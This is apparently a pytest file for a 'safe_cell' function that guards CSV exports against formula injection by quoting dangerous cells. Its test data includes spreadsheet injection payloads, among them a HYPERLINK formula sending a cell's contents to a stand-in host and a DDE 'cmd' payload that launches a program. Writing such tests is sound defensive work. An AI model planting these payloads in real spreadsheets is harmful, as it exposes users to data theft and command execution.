"""core.spreadsheet.safe_cell: the one CSV cell rule every export writes its cells with."""
import csv
import io
from decimal import Decimal

import pytest

from blended_xblocks.core.spreadsheet import safe_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "  @x"]


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_text_a_spreadsheet_would_run_is_kept_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-2", "-2.5", "+33 6 12 34 56 78"], ids=repr)
def test_text_that_looks_like_a_signed_number_is_text_too(text):
    """A reason or a phone number someone typed is text: it gets the quote like any other."""
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "cell"), [(-2, "-2"), (-2.5, "-2.5"), (Decimal("-1.25"), "-1.25"), (0, "0"),
                                             (10, "10")], ids=repr)
def test_numbers_the_export_writes_stay_numbers_negative_ones_included(value, cell):
    assert safe_cell(value) == cell


def test_everything_else_is_plain_text():
    assert safe_cell(None) == "" and safe_cell("Amina Diallo") == "Amina Diallo" and safe_cell("أمينة") == "أمينة"
    assert safe_cell(True) == "True"  # not a number a sum should count
    assert safe_cell(float("-inf")) == "'-inf"  # not a finite number: text, quoted


def test_a_quoted_cell_reads_back_as_the_text_that_was_written():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe_cell(text) for text in FORMULAS])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert [cell[1:] for cell in row] == FORMULAS and all(cell.startswith("'") for cell in row)
